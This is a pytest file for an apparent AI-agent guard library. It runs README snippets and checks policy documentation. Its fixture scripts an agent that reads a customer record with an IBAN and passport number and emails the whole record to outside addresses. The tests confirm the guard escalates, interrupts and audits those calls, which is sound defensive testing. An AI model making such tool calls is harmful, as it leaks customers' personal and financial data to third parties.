"""The README's quick start runs as written, and its policy reference matches the schema."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
README = (ROOT / "README.md").read_text(encoding="utf-8")


def test_quick_start_runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The first Python block of the README executes and its assertions hold."""
    block = re.search(r"```python\n(import guard\n.*?)```", README, re.S)
    assert block is not None
    monkeypatch.chdir(ROOT)
    code = block.group(1).replace('audit="audit.jsonl"', f'audit="{tmp_path / "audit.jsonl"}"')
    exec(compile(code, "README.md", "exec"), {})


def test_policy_reference_matches_schema() -> None:
    """Every top-level policy key of the schema is documented in the README's reference, and no other."""
    from guard.policy import policy_json_schema

    keys = set(policy_json_schema()["properties"])
    section = README.split("## Policy files", 1)[1].split("\n## ", 1)[0]
    documented = set(re.findall(r"^\| `([a-z_]+)` \|", section, re.M))
    assert documented == keys


def _readme_block(marker: str) -> str:
    block = re.search(rf"```python\n(# {re.escape(marker)}\n.*?)```", README, re.S)
    assert block is not None, f"no README block starting with '# {marker}'"
    return block.group(1)


def _integration_namespace(ran: list[tuple[str, dict[str, object]]]) -> dict[str, object]:
    """What the Integrations snippets assume: a guard, a (scripted) model, tools and a task."""
    pytest.importorskip("langchain")
    from langchain.agents import create_agent
    from langchain_core.messages import AIMessage
    from langchain_core.tools import tool
    from langgraph.checkpoint.memory import InMemorySaver

    from guard import Guard, load_policy
    from guard.adapters.langchain import GuardMiddleware, guard_tools
    from guard.adapters.langchain_testing import ScriptedChatModel, tool_call
    from guard.audit import MemoryAudit

    record = "Customer: Lena Novak\nIBAN: DE44500105175407324931\nPassport number: C7R4K91X2"

    @tool
    def read_record(name: str) -> str:
        """Read a customer record."""
        ran.append(("read_record", {"name": name}))
        return record

    @tool
    def send_email(to: str, subject: str, body: str) -> str:
        """Send an e-mail."""
        ran.append(("send_email", {"to": to, "subject": subject, "body": body}))
        return f"sent to {to}"

    leak = {"to": "compliance@audit-desk.net", "subject": "Record", "body": record}
    turns = [
        AIMessage(content="", tool_calls=[tool_call("read_record", {"name": "Lena Novak"}, "c1")]),
        AIMessage(
            content="",
            tool_calls=[
                tool_call("send_email", leak, "c4"),
                tool_call("send_email", {**leak, "to": "x@audit-desk.net"}, "c5"),
            ],
        ),
        AIMessage(content="done"),
    ]
    guard = Guard(load_policy(ROOT / "policies" / "examples" / "mail_agent.yaml"), threshold=0.5, audit=MemoryAudit())
    return {
        "guard": guard,
        "Guard": Guard,
        "model": ScriptedChatModel(responses=turns),
        "tools": [read_record, send_email],
        "task": "Read the record of customer Lena Novak and mail her.",
        "create_agent": create_agent,
        "InMemorySaver": InMemorySaver,
        "GuardMiddleware": GuardMiddleware,
        "guard_tools": guard_tools,
        "leak": leak,
    }


def test_readme_batched_review_runs(capsys: pytest.CaptureFixture[str]) -> None:
    """The batched review snippet: two interrupts answered by id; the edit runs decided, respond runs nothing."""
    ran: list[tuple[str, dict[str, object]]] = []
    namespace = _integration_namespace(ran)
    exec(compile(_readme_block("review: batched"), "README.md", "exec"), namespace)
    sends = [args for name, args in ran if name == "send_email"]
    assert sends == [{"to": "lena.novak@example.com", "subject": "Record", "body": "Your record is on file."}]
    audit = namespace["guard"].audit  # type: ignore[attr-defined]
    answers = sorted((e["call_id"], e["answer"], e["reviewer"]) for e in audit.entries if e.get("kind") == "review")
    assert answers == [("c4", "edit", "alice"), ("c5", "respond", "alice")]
    assert len(capsys.readouterr().out.splitlines()) == 2


def test_readme_shadow_runs() -> None:
    """The shadow snippet: the escalated leak runs, and its escalate decision is audited."""
    ran: list[tuple[str, dict[str, object]]] = []
    namespace = _integration_namespace(ran)
    exec(compile(_readme_block("shadow"), "README.md", "exec"), namespace)
    assert namespace["leak"] in [args for name, args in ran if name == "send_email"]
    audit = namespace["guard"].audit  # type: ignore[attr-defined]
    assert "escalate" in [e.get("verdict") for e in audit.entries if e.get("tool") == "send_email"]
    assert all(g.session.guard.mode == "shadow" for g in namespace["guarded"])  # type: ignore[attr-defined]
